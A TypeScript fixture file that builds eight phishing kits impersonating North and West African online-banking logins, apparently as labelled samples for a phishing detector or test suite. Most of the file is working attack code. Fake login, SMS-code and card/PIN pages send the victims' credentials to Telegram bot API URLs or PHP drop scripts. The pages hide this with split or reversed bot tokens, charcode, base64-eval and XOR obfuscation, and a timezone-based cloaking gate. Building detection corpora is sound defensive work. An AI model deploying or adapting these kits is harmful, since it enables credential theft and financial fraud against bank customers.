import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, codesOf, doc, logos, splitJs, tgSendJs, visitorInfoJs, gateJs, xorB64, xorDecoderJs, cardFieldsFr, luhnJs, reversed } from '../parts/xe-kit.js';

/**
 * Bank credential kits seen against Maghreb and West African banks: copies of the online-banking logins
 * (Attijarinet, CIH Online, BMCE Direct, Chaabi Net, BIATNET, Ecobank Online, SGBCI, Bank of Africa B-Web)
 * with multi-step flows (login → SMS code → card), exfil to Telegram bots or PHP drops, obfuscation and cloaking.
 */

const attijarinetSteps: Entry = (() => {
  const host = 'attijarinet-securite.online';
  const css = `body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f4f4f4;color:#222}.top{background:#fff;border-bottom:4px solid #f6a800;padding:12px 28px}.box{max-width:420px;margin:40px auto;background:#fff;border-radius:6px;box-shadow:0 2px 10px rgba(0,0,0,.08);padding:26px 30px}h1{font-size:20px;margin:0 0 6px}p.s{color:#666;font-size:13px;margin:0 0 20px}label{display:block;font-size:13px;margin:12px 0 4px;color:#444}input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #ccc;border-radius:4px;font-size:15px}button{margin-top:20px;width:100%;padding:12px;background:#f6a800;color:#1d1d1b;font-weight:700;border:0;border-radius:4px;font-size:15px;cursor:pointer}.links{margin-top:14px;font-size:12px}.links a{color:#9a6a00}.sec{font-size:11px;color:#888;text-align:center;margin-top:22px}`;
  const tok = splitJs('7381946620:AAGx1rXkQp0v-Wm3aHcT_jN9sdE8ZfLr2uY', 5);
  const common = tgSendJs('tg', tok, `'-100219384756'`) + visitorInfoJs('vi');
  const top = `<div class="top">${logos.attijari(38)}</div>`;
  const login = doc({
    title: 'Attijarinet - Connexion',
    css,
    body: `${top}<div class="box"><h1>Bienvenue sur Attijarinet</h1><p class="s">Banque en ligne des particuliers et professionnels</p>
<form id="f" autocomplete="off"><label for="u">Identifiant Attijarinet</label><input id="u" name="u" required>
<label for="p">Mot de passe</label><input id="p" name="p" type="password" required>
<button type="submit">Se connecter</button></form>
<div class="links"><a href="#">Identifiant oublié ?</a> · <a href="#">Mot de passe oublié ?</a> · <a href="#">Première connexion</a></div>
<p class="sec">Pour votre sécurité, Attijariwafa bank ne vous demandera jamais vos codes par téléphone.</p></div>
<script>${common}
document.getElementById('f').onsubmit=async function(e){e.preventDefault();var u=this.u.value,p=this.p.value;sessionStorage.setItem('aw_u',u);
await tg('🟡 ATTIJARI LOGIN\\nID: '+u+'\\nPASS: '+p+'\\n'+(await vi()));location.href='verification.php?s='+Date.now()};</script>`,
  });
  const sms = doc({
    title: 'Attijarinet - Vérification',
    css: css + `.code{letter-spacing:10px;text-align:center;font-size:22px}.t{color:#c00;font-size:12px;margin-top:8px}`,
    body: `${top}<div class="box"><h1>Vérification de votre identité</h1><p class="s">Un code de confirmation à 6 chiffres vient d'être envoyé par SMS au numéro enregistré 06 ** ** ** 41.</p>
<form id="f"><label for="c">Code reçu par SMS</label><input id="c" class="code" maxlength="6" inputmode="numeric" required>
<p class="t" id="t">Le code expire dans 03:00</p><button>Valider</button></form></div>
<script>${common}
var n=180;setInterval(function(){n--;if(n>=0)document.getElementById('t').textContent='Le code expire dans 0'+Math.floor(n/60)+':'+('0'+n%60).slice(-2)},1000);
document.getElementById('f').onsubmit=async function(e){e.preventDefault();await tg('🟡 ATTIJARI SMS\\nID: '+sessionStorage.getItem('aw_u')+'\\nOTP: '+this.c.value);location.href='carte.php'};</script>`,
  });
  const card = doc({
    title: 'Attijarinet - Confirmation de la carte',
    css: css + `.cf-row{display:flex;gap:10px}.cf-row>div{flex:1}.cf-amount{background:#fff7e0;border-left:3px solid #f6a800;padding:8px 10px;font-size:13px}`,
    body: `${top}<div class="box"><h1>Réactivation de votre carte bancaire</h1><p class="s">Suite à une tentative de connexion inhabituelle, votre carte a été suspendue. Merci de confirmer ses informations pour la réactiver.</p>
<form id="f">${cardFieldsFr({ cls: 'cf', amountLine: 'Aucun montant ne sera débité.' })}<label for="pin">Code confidentiel (PIN)</label><input id="pin" type="password" maxlength="4" inputmode="numeric" required><button>Confirmer</button></form></div>
<script>${common}${luhnJs('ok')}
document.getElementById('f').onsubmit=async function(e){e.preventDefault();var g=function(i){return document.getElementById(i).value};if(!ok(g('cc-num'))){alert('Numéro de carte invalide');return}
await tg('🟡 ATTIJARI CARD\\nID: '+sessionStorage.getItem('aw_u')+'\\nNOM: '+g('cc-name')+'\\nCC: '+g('cc-num')+'\\nEXP: '+g('cc-exp')+'\\nCVV: '+g('cc-cvv')+'\\nPIN: '+g('pin'));location.replace('https://www.attijarinet.ma/')};</script>`,
  });
  return {
    id: 'xe-attijarinet-three-step-telegram',
    label: 'phishing',
    kind: 'bank-credential-kit',
    url: `https://${host}/particuliers/connexion.php`,
    body: login,
    routes: { [`${host}/particuliers/verification.php`]: htmlRoute(sms), [`${host}/particuliers/carte.php`]: htmlRoute(card) },
  };
})();

const cihOnWordpress: Entry = (() => {
  const base = 'www.riad-dar-essaouira-tours.com/wp-includes/css/dist/cih/online';
  const login = doc({
    title: 'CIH Online | بنك CIH',
    head: '<meta name="robots" content="noindex,nofollow"><link rel="icon" href="data:,">',
    css: `*{box-sizing:border-box}body{margin:0;background:linear-gradient(160deg,#0a4f9e,#06305f);min-height:100vh;font-family:Tahoma,Arial,sans-serif}.card{background:#fff;max-width:400px;margin:60px auto;border-radius:10px;padding:28px}.lang{float:right;font-size:12px}.lang a{color:#0a4f9e;margin-left:6px}h2{color:#0a4f9e;font-size:19px}.ar{direction:rtl;text-align:right;color:#555;font-size:13px}input{width:100%;padding:12px;margin:6px 0 14px;border:1px solid #c9d3e0;border-radius:6px}button{width:100%;background:#f28c00;border:0;color:#fff;padding:13px;border-radius:6px;font-size:16px}small{display:block;color:#777;margin-top:14px;font-size:11px}`,
    body: `<div class="card"><div class="lang"><a href="#">FR</a><a href="#">عربي</a></div>${logos.cih(36)}
<h2>Accès à CIH Online</h2><p class="ar">مرحبا بكم في خدمة CIH Online، المرجو إدخال معرفكم وكلمة السر</p>
<form method="post" action="post.php"><input type="hidden" name="step" value="login"><input type="hidden" name="bank" value="cih">
<input name="login" placeholder="Identifiant / المعرف" required><input name="pass" type="password" placeholder="Mot de passe / كلمة السر" required>
<input name="tel" placeholder="Numéro de téléphone / رقم الهاتف" inputmode="tel" required>
<button type="submit">Connexion · دخول</button></form>
<small>Conformément à la loi 09-08, vos données sont protégées. © CIH Bank</small></div>`,
  });
  const otp = doc({
    title: 'CIH Online | Code de sécurité',
    css: `body{background:#eef3f9;font-family:Tahoma,Arial}.w{max-width:380px;margin:70px auto;background:#fff;padding:26px;border-radius:8px;text-align:center}.sp{width:34px;height:34px;border:4px solid #ddd;border-top-color:#f28c00;border-radius:50%;margin:0 auto 14px;animation:r 1s linear infinite}@keyframes r{to{transform:rotate(360deg)}}input{font-size:22px;text-align:center;letter-spacing:8px;width:80%;padding:10px}button{margin-top:16px;background:#0a4f9e;color:#fff;border:0;padding:12px 30px;border-radius:6px}`,
    body: `<div class="w">${logos.cih(30)}<div class="sp" id="sp"></div><p id="msg">Veuillez patienter, vérification en cours...<br>المرجو الانتظار</p>
<form method="post" action="post.php" id="f" style="display:none"><input type="hidden" name="step" value="otp"><p>Saisissez le code reçu par SMS<br>أدخل الرمز الذي توصلت به عبر رسالة نصية</p><input name="otp" maxlength="6" inputmode="numeric" required><br><button>Valider · تأكيد</button></form></div>
<script>setTimeout(function(){document.getElementById('sp').style.display='none';document.getElementById('msg').style.display='none';document.getElementById('f').style.display='block'},6500);</script>`,
  });
  return {
    id: 'xe-cih-online-wordpress-php-drop',
    label: 'phishing',
    kind: 'bank-credential-kit',
    url: `https://${base}/index.html`,
    body: login,
    routes: { [`${base}/post.php`]: htmlRoute(otp) },
  };
})();

const bmceDirectCharcodes: Entry = (() => {
  const inner = `<div style="max-width:430px;margin:50px auto;background:#fff;border-top:5px solid #00539b;padding:26px 30px;font-family:Arial">${logos.boa(34)}
<h2 style="color:#00539b;font-size:20px">BMCE Direct</h2><p style="color:#666;font-size:13px">Accédez à vos comptes 24h/24 et 7j/7</p>
<form id="bd"><label>Numéro de contrat</label><input id="c1" style="width:100%;padding:10px;margin:4px 0 12px" required>
<label>Code d'accès</label><input id="c2" type="password" style="width:100%;padding:10px;margin:4px 0 12px" required>
<label>Numéro de la carte liée</label><input id="c3" inputmode="numeric" style="width:100%;padding:10px;margin:4px 0 12px">
<button style="width:100%;background:#00539b;color:#fff;border:0;padding:12px">Connexion</button></form>
<p style="font-size:11px;color:#999">BANK OF AFRICA - BMCE Group, société anonyme au capital de 2 151 408 390 DH</p></div>`;
  const script = `var _t=${splitJs('6012884739:AAF0bq9cZ-Lw8RkT3yYpU2aNn5hVxGe1oPs', 6)},_c='5298014477';
document.getElementById('bd').onsubmit=function(e){e.preventDefault();var m='BMCE\\ncontrat: '+c1.value+'\\ncode: '+c2.value+'\\ncarte: '+c3.value;
fetch('https://api.telegram.org/bot'+_t+'/sendMessage?chat_id='+_c+'&text='+encodeURIComponent(m)).finally(function(){document.body.innerHTML='<p style=\\'text-align:center;margin-top:80px;font-family:Arial\\'>Votre session a expiré. Redirection...</p>';setTimeout(function(){location='https://www.bmcedirect.ma'},2500)})};`;
  const body = doc({
    title: 'BMCE Direct - Bank of Africa',
    css: 'body{background:#eef2f6;margin:0}',
    body: `<noscript>Activez JavaScript.</noscript><div id="ld" style="text-align:center;margin-top:120px;font-family:Arial;color:#00539b">Chargement sécurisé...</div>
<script>var _0x=[${codesOf(inner, 3)}];document.getElementById('ld').remove();document.write(String.fromCharCode.apply(null,_0x.map(function(x){return x-3})));</script>
<script>eval(atob('${b64(script)}'))</script>`,
  });
  return { id: 'xe-bmce-direct-charcode-firebase', label: 'phishing', kind: 'bank-credential-kit', url: 'https://bmcedirect-boa-secure.web.app/', body };
})();

const chaabiCloaked: Entry = (() => {
  const host = 'chaabinet-client-ma.com';
  const app = `<div class="hd">${logos.bp(36)}<span>Chaabi Net</span></div>
<div class="main"><h3>Espace client – Mise à jour de vos informations</h3><p>Conformément à la réglementation de Bank Al-Maghrib, veuillez mettre à jour vos données avant le 30/11 afin d'éviter la suspension de votre compte.</p>
<form id="cf"><div class="g"><label>N° CIN</label><input name="cin" placeholder="BK123456" required></div>
<div class="g"><label>Date de naissance</label><input name="dob" type="date" required></div>
<div class="g"><label>Identifiant Chaabi Net</label><input name="id" required></div>
<div class="g"><label>Mot de passe</label><input name="pw" type="password" required></div>
<div class="g"><label>Téléphone (GSM)</label><input name="gsm" placeholder="06XXXXXXXX" required></div>
<button>Valider la mise à jour</button></form></div>`;
  const body = doc({
    title: 'Chaabi Net - Banque Populaire',
    css: `body{margin:0;font-family:Verdana,Arial;background:#faf6f1}.hd{background:#8b4513;color:#fff;padding:10px 20px;display:flex;align-items:center;gap:12px;font-size:18px}.hd svg{background:#fff;border-radius:4px}.main{max-width:560px;margin:26px auto;background:#fff;padding:24px;border:1px solid #e6d8c8}.g{margin:10px 0}.g label{display:block;font-size:12px;color:#6b3a12}.g input{width:100%;padding:9px;border:1px solid #d4c2ae}button{background:#f39200;border:0;color:#fff;padding:12px 20px;margin-top:12px}`,
    body: `<div id="root" style="text-align:center;padding:90px;color:#8b4513">Veuillez patienter...</div>
<script>${gateJs({ decoy: 'https://www.gbp.ma/', zones: ['Africa/Casablanca', 'Europe/'], onPass: `fetch('/ma/app.html').then(function(r){return r.text()}).then(function(h){document.getElementById('root').outerHTML=h;bind()})` })}
function bind(){document.getElementById('cf').onsubmit=function(e){e.preventDefault();var fd=new FormData(this);fd.append('src','chaabi');fd.append('ua',navigator.userAgent);
fetch('/ma/api/log.php',{method:'POST',body:fd}).then(function(){location.href='/ma/merci.html'})}}</script>`,
  });
  return {
    id: 'xe-chaabinet-geo-cloaked-update',
    label: 'phishing',
    kind: 'bank-credential-kit',
    url: `https://${host}/ma/`,
    body,
    routes: {
      [`${host}/ma/app.html`]: htmlRoute(app),
      [`${host}/ma/merci.html`]: htmlRoute(doc({ title: 'Chaabi Net', body: '<p style="font-family:Verdana;text-align:center;margin-top:80px">Merci, vos informations ont été mises à jour. Un conseiller vous contactera.</p><script>setTimeout(function(){location="https://www.chaabinet.ma"},4000)</script>' })),
    },
  };
})();

const biatnetArabic: Entry = (() => {
  const host = 'biatnet-tn-connexion.info';
  const body = doc({
    title: 'BIATNET - Banque Internationale Arabe de Tunisie',
    css: `body{margin:0;font-family:'Segoe UI',Arial;background:#f2f5f9}header{background:#003b71;padding:14px 30px;display:flex;justify-content:space-between;align-items:center;color:#fff;font-size:13px}.wrap{display:flex;max-width:900px;margin:40px auto;gap:30px}.promo{flex:1;color:#003b71}.promo h1{font-size:28px}.promo p{direction:rtl;font-size:15px}.login{flex:0 0 340px;background:#fff;padding:24px;border-radius:4px;box-shadow:0 1px 6px rgba(0,0,0,.1)}.login input{width:100%;padding:10px;margin:6px 0 14px;border:1px solid #bcc8d6;box-sizing:border-box}.login button{width:100%;padding:11px;background:#c8102e;color:#fff;border:0;font-weight:600}.err{display:none;color:#c8102e;font-size:13px}`,
    body: `<header>${logos.biat(30)}<span>Service clients 71 131 000 · عربي | Français</span></header>
<div class="wrap"><div class="promo"><h1>BIATNET, votre banque à portée de clic</h1><p>خدمة BIATNET متوفرة 24/24 و 7/7. تثبت من حسابك لتجنب تعليق خدماتك البنكية.</p><p style="direction:ltr">Suite à la migration de notre plateforme, chaque client doit confirmer son accès.</p></div>
<div class="login"><h3>Connexion</h3><p class="err" id="err">Identifiant ou mot de passe incorrect. Veuillez réessayer.</p>
<form id="lf"><label>Identifiant</label><input id="lid" required><label>Mot de passe</label><input id="lpw" type="password" required><label>Numéro de téléphone</label><input id="ltel" placeholder="+216" required><button>Accéder</button></form></div></div>
<script>var tries=0,drop=atob('${b64(`https://${host}/biatnet/inc/rz.php`)}');
document.getElementById('lf').onsubmit=function(e){e.preventDefault();tries++;var x=new XMLHttpRequest();x.open('POST',drop);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');
x.send('t='+tries+'&id='+encodeURIComponent(lid.value)+'&pw='+encodeURIComponent(lpw.value)+'&tel='+encodeURIComponent(ltel.value));
if(tries<2){document.getElementById('err').style.display='block';lpw.value='';}else{location.href='otp.html'}};</script>`,
  });
  const otp = doc({
    title: 'BIATNET - Code de confirmation',
    css: `body{font-family:'Segoe UI',Arial;background:#f2f5f9}.b{max-width:360px;margin:80px auto;background:#fff;padding:26px;text-align:center}input{font-size:20px;letter-spacing:6px;text-align:center;padding:10px;width:70%}button{background:#c8102e;color:#fff;border:0;padding:10px 28px;margin-top:14px}`,
    body: `<div class="b">${logos.biat(28)}<p>Un code à usage unique a été envoyé sur votre téléphone.<br><span dir="rtl">تم إرسال رمز التأكيد إلى هاتفك</span></p><form method="post" action="inc/rz.php"><input name="otp" maxlength="8" required><br><button>Confirmer</button></form></div>`,
  });
  return { id: 'xe-biatnet-double-login-xhr', label: 'phishing', kind: 'bank-credential-kit', url: `https://${host}/biatnet/login.html`, body, routes: { [`${host}/biatnet/otp.html`]: htmlRoute(otp) } };
})();

const sgbciShortlink: Entry = (() => {
  const kitHost = 'sgbci-particuliers-acces.net';
  const body = doc({
    title: 'Société Générale Côte d\'Ivoire - Espace client',
    css: `body{margin:0;font-family:Arial;background:#f3f3f3}.h{background:#000;padding:12px 24px}.h svg text{fill:#fff}.m{max-width:460px;margin:36px auto;background:#fff;padding:24px}.kp{display:grid;grid-template-columns:repeat(5,48px);gap:6px;margin:10px 0}.kp button{height:44px;font-size:18px;background:#fff;border:1px solid #bbb}.dots{font-size:26px;letter-spacing:8px;height:30px}.go{width:100%;background:#e60028;color:#fff;border:0;padding:12px;margin-top:10px}`,
    body: `<div class="h">${logos.sg(30)}</div><div class="m"><h2>Accéder à mes comptes</h2>
<label>Code client</label><input id="cc" style="width:100%;padding:10px" maxlength="10" inputmode="numeric">
<p>Code secret : composez-le sur le clavier ci-dessous</p><div class="dots" id="dots"></div><div class="kp" id="kp"></div><button class="go" id="go">Valider</button>
<p style="font-size:11px;color:#888">SGBCI – Société Générale de Banques en Côte d'Ivoire. Agréée par la BCEAO.</p></div>
<script>var code='',d=[0,1,2,3,4,5,6,7,8,9].sort(function(){return Math.random()-.5}),kp=document.getElementById('kp');
d.forEach(function(n){var b=document.createElement('button');b.textContent=n;b.onclick=function(){if(code.length<6){code+=n;document.getElementById('dots').textContent='•'.repeat(code.length)}};kp.appendChild(b)});
document.getElementById('go').onclick=function(){var p=new URLSearchParams({cc:cc.value,cs:code,ref:new URLSearchParams(location.search).get('ref')||''});
navigator.sendBeacon('/connexion/collect.php',p);location.href='/connexion/securite.html'};</script>`,
  });
  const step2 = doc({
    title: 'SGBCI - Pass Sécurité',
    body: `<div style="max-width:420px;margin:50px auto;font-family:Arial">${logos.sg(28)}<h3>Validation Pass Sécurité</h3><p>Pour finaliser, renseignez le code reçu par SMS ainsi que les informations de votre carte Visa SGBCI.</p>
<form action="/connexion/collect.php" method="post"><input name="sms" placeholder="Code SMS" style="width:100%;padding:10px;margin:6px 0"><input name="pan" placeholder="Numéro de carte" style="width:100%;padding:10px;margin:6px 0"><input name="exp" placeholder="MM/AA" style="width:48%;padding:10px"><input name="cvv" placeholder="CVV" style="width:48%;padding:10px"><button style="width:100%;margin-top:10px;background:#e60028;color:#fff;border:0;padding:12px">Valider</button></form></div>`,
  });
  return {
    id: 'xe-sgbci-sms-shortlink-virtual-keypad',
    label: 'phishing',
    kind: 'bank-credential-kit',
    url: 'https://sgci.lnk-court.click/a7Hq2',
    routes: {
      'sgci.lnk-court.click/a7Hq2': redirectRoute(302, `https://${kitHost}/connexion/?ref=sms-a7Hq2`),
      [`${kitHost}/connexion/`]: htmlRoute(body),
      [`${kitHost}/connexion/securite.html`]: htmlRoute(step2),
    },
  };
})();

const attijariAtobBlob: Entry = (() => {
  const inner = `<div style="font-family:Arial;max-width:400px;margin:30px auto;background:#fff;border:1px solid #eee;padding:22px">${logos.attijari(30)}
<h3 style="color:#b37400">Carte bancaire bloquée</h3><p style="font-size:14px">Cher client, votre carte a été temporairement bloquée suite à 3 tentatives de paiement en ligne non abouties. Pour la débloquer gratuitement, confirmez vos informations ci-dessous.</p>
<form id="k"><input id="n" placeholder="Nom et prénom" style="width:100%;padding:10px;margin:5px 0"><input id="cc" placeholder="Numéro de carte (16 chiffres)" style="width:100%;padding:10px;margin:5px 0">
<input id="ex" placeholder="MM/AA" style="width:49%;padding:10px"><input id="cv" placeholder="CVV" style="width:49%;padding:10px"><input id="gsm" placeholder="N° de téléphone" style="width:100%;padding:10px;margin:5px 0">
<button style="width:100%;padding:12px;background:#f6a800;border:0;font-weight:bold">Débloquer ma carte</button></form></div>
<script>document.getElementById('k').onsubmit=function(e){e.preventDefault();var t='${reversed('6644018273:AAHqM0pZr7kLw2Vx9cYs-B3eTnJ4uFd8oGa')}'.split('').reverse().join('');
var m=['AWB CARD',n.value,cc.value,ex.value,cv.value,gsm.value].join('\\n');new Image().src='https://api.telegram.org/bot'+t+'/sendMessage?chat_id=1893375520&text='+encodeURIComponent(m);
setTimeout(function(){document.body.innerHTML='<h3 style=\\'font-family:Arial;text-align:center\\'>Merci. Votre carte sera débloquée sous 24h.</h3>'},900)};</script>`;
  return {
    id: 'xe-attijari-card-unblock-atob-write',
    label: 'phishing',
    kind: 'bank-card-kit',
    url: 'https://attijari-alerte.top/c/8821',
    body: `<html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>Attijariwafa bank</title></head><body style="background:#f4f4f4"><script>document.write(decodeURIComponent(escape(atob("${b64(inner)}"))))</script></body></html>`,
  };
})();

const boaSenegalXor: Entry = (() => {
  const key = 'dakar2025';
  const inner = `<div class="bw"><div class="bwh">${logos.boa(32)}<span>B-Web Sénégal</span></div>
<p class="wo">Dalal ak jamm ci B-Web. Pour continuer à utiliser vos services, veuillez confirmer votre accès.</p>
<form id="bwf"><input name="agence" placeholder="Code agence"><input name="compte" placeholder="Numéro de compte"><input name="identifiant" placeholder="Identifiant B-Web" required><input name="mdp" type="password" placeholder="Mot de passe" required><input name="otp" placeholder="Code reçu par SMS (si demandé)"><button>Se connecter</button></form></div>`;
  const exfil = `document.getElementById('bwf').onsubmit=function(e){e.preventDefault();var o={};new FormData(this).forEach(function(v,k){o[k]=v});o.h=location.host;
fetch(atob('${b64('https://bweb-boasenegal.site/gate/api.php')}'),{method:'POST',mode:'no-cors',body:JSON.stringify(o)});setTimeout(function(){location.href='https://www.boasenegal.com'},1200)};`;
  return {
    id: 'xe-boa-senegal-bweb-xor-blob',
    label: 'phishing',
    kind: 'bank-credential-kit',
    url: 'https://bweb-boasenegal.site/login',
    body: doc({
      title: 'BANK OF AFRICA SENEGAL - B-Web',
      css: `body{background:#e9eef4;margin:0;font-family:Arial}.bw{max-width:400px;margin:40px auto;background:#fff;padding:22px}.bwh{display:flex;gap:10px;align-items:center;color:#00539b;font-weight:bold}.wo{font-size:13px;color:#555}.bw input{display:block;width:100%;padding:10px;margin:7px 0;border:1px solid #ccd;box-sizing:border-box}.bw button{width:100%;background:#00539b;color:#fff;border:0;padding:12px}`,
      body: `<div id="app"></div><script>${xorDecoderJs('dx', splitJs(key, 3))}
document.getElementById('app').innerHTML=dx('${xorB64(inner, key)}');eval(dx('${xorB64(exfil, key)}'));</script>`,
    }),
  };
})();

export const entries: Entry[] = [attijarinetSteps, cihOnWordpress, bmceDirectCharcodes, chaabiCloaked, biatnetArabic, sgbciShortlink, attijariAtobBlob, boaSenegalXor];
